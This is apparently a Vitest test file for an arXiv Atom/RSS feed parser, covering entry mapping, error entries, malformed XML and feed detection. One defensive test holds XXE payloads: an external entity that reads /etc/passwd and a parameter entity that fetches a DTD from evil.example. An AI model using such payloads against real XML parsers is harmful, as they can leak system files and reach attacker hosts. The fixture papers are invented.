import { describe, expect, it } from 'vitest';
import { arxivAtomParser as parser } from './arxiv-atom.js';
import { context, fixture, parseAll } from './test-support/fixture-files.js';

describe('arxiv-atom parser', () => {
  it('maps the entries of an arXiv API response, with the line each entry starts on', () => {
    const { records, skipped } = parseAll(parser, fixture('arxiv-api-sample.xml'));
    expect(skipped).toEqual([]);
    expect(records.map((r) => r.line)).toEqual([10, 38, 56]);
    expect(records[0]).toEqual({
      line: 10,
      title: 'Tidepool Attention: Sparse Routing of Long Contexts through Shallow Memory Basins',
      abstract: expect.stringMatching(/^We introduce Tidepool Attention.*\n.*while using <5% of its memory\.$/s),
      authors: ['Maren Okonkwo-Lindqvist', 'Tomás Ferreira'],
      date: '2025-03-06',
      categories: ['cs.CL', 'cs.LG'],
      arxivId: '2503.04417',
      arxivVersion: 2,
      doi: '10.5555/tidepool.2025.017',
      url: 'http://arxiv.org/abs/2503.04417v2',
      comment: '12 pages, 4 figures; v2 fixes Table 3',
      venue: 'Proc. Workshop on Made-Up Models 2025',
    });
    // Named and numeric entities decoded; old-style id; primary category first, once.
    expect(records[1]).toMatchObject({
      title: 'Brane Tides & the β-Function of a Toy Sigma Model',
      abstract: expect.stringContaining('vanishes for $N > 3$'),
      arxivId: 'hep-th/9912345',
      arxivVersion: 3,
      date: '1999-12-30',
      categories: ['hep-th', 'math-ph', 'math.MP'],
    });
    expect(records[2]).toMatchObject({ arxivId: '2504.00123', arxivVersion: 1, categories: ['math.CO'] });
  });

  it('maps arXiv RSS items: the id and version from the announcement, the abstract after it', () => {
    const { records, skipped } = parseAll(parser, fixture('arxiv-rss-sample.xml'));
    expect(skipped).toEqual([]);
    expect(records[0]).toEqual({
      line: 10,
      title: 'Whispering Tokens: Quiet Supervision for Loud Models',
      abstract: 'We show that a model supervised only on the tokens it is least sure of learns as fast as one supervised on every token.',
      authors: ['Ana Lima', 'Jun-seo Park', 'Sven Ødegaard'],
      date: '2025-03-18',
      categories: ['cs.CL', 'cs.AI'],
      arxivId: '2503.13001',
      arxivVersion: 1,
      url: 'https://arxiv.org/abs/2503.13001',
    });
    expect(records[1]).toMatchObject({ line: 23, arxivId: '2504.00123', arxivVersion: 2, authors: ['Ines Marchetti'] });
  });

  it('reads a generic Atom feed without arXiv extensions', () => {
    const feed = `<feed xmlns="http://www.w3.org/2005/Atom">
<entry><id>tag:example.org,2024:7</id><title type="html">A Blog-Listed Paper</title>
<content>Body text.</content><updated>2024-02-03T00:00:00Z</updated>
<link href="https://example.org/p/7"/><category term="ml"/></entry></feed>`;
    expect(parseAll(parser, feed).records).toEqual([
      { line: 2, title: 'A Blog-Listed Paper', abstract: 'Body text.', date: '2024-02-03', categories: ['ml'], url: 'https://example.org/p/7' },
    ]);
  });

  it('turns an API error entry into a skipped item carrying the error', () => {
    const feed = `<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <entry>
    <id>http://arxiv.org/api/errors#incorrect_id_format_for_9999.0</id>
    <title>Error</title>
    <summary>incorrect id format for 9999.0</summary>
  </entry>
</feed>`;
    expect(parseAll(parser, feed, context('2025-11-20', 5)).skipped).toEqual([
      { line: 7, reason: 'arXiv API error: incorrect id format for 9999.0' },
    ]);
  });

  it('reads malformed XML an entry at a time: a broken entry is skipped at its line, the rest kept', () => {
    const lines = fixture('arxiv-api-sample.xml').split('\n');
    lines[37] = lines[37]!.slice(0, 5); // the second <entry> tag, cut
    lines[57] = lines[57]!.slice(0, 20); // the third entry's title, cut
    const { records, skipped } = parseAll(parser, lines.join('\n'));
    expect(records.map((r) => r.line)).toEqual([10]);
    expect(skipped.map((s) => s.line)).toEqual([56, 39]);
    expect(skipped[0]?.reason).toMatch(/^malformed XML in this <entry>, at line 66: /);
    expect(skipped[1]?.reason).toMatch(/^malformed XML: .*; the entry elements were read one by one$/);
    // Nothing to salvage: the file as a whole is refused, naming it.
    expect(() => [...parser.parse(fixture('arxiv-api-sample.xml').slice(0, 500), { file: 'cut.xml', today: '2025-11-20', firstLine: 1 })]).toThrow(
      expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringMatching(/^cut\.xml: malformed XML/) }),
    );
    expect(() => parseAll(parser, '<html><body>hi</body></html>')).toThrow(/neither an Atom feed nor an RSS channel/);
  });

  it('refuses hostile XML (external and parameter entities, deep nesting) as a BAD_INPUT naming the file', () => {
    const entry = '<entry><id>http://arxiv.org/abs/2401.00001v1</id><title>T</title><summary>S</summary></entry>';
    const hostile = {
      external: `<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feed>${entry.replace('T<', '&xxe;<')}</feed>`,
      parameter: `<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n<feed>${entry}</feed>`,
      deep: `<feed>${entry.replace('S<', `${'<b>'.repeat(500)}${'</b>'.repeat(500)}<`)}</feed>`,
    };
    for (const xml of Object.values(hostile)) {
      expect(() => [...parser.parse(xml, { file: 'hostile.xml', today: '2025-11-20', firstLine: 1 })]).toThrow(
        expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringMatching(/^hostile\.xml: /) }),
      );
    }
  });

  it('detects arXiv feeds with confidence, other feeds less, other text not at all', () => {
    expect(parser.detect(fixture('arxiv-api-sample.xml'), 'q.xml')).toBeGreaterThanOrEqual(0.95);
    expect(parser.detect(fixture('arxiv-rss-sample.xml'), 'cs.CL')).toBeGreaterThanOrEqual(0.95);
    expect(parser.detect('<rss version="2.0"><channel><item><title>x</title></item>', 'f')).toBe(0.6);
    expect(parser.detect('@article{key, title={<feed>}}', 'a.bib')).toBe(0);
    expect(parser.detect('{"title": "x"}', 'a.json')).toBe(0);
  });
});
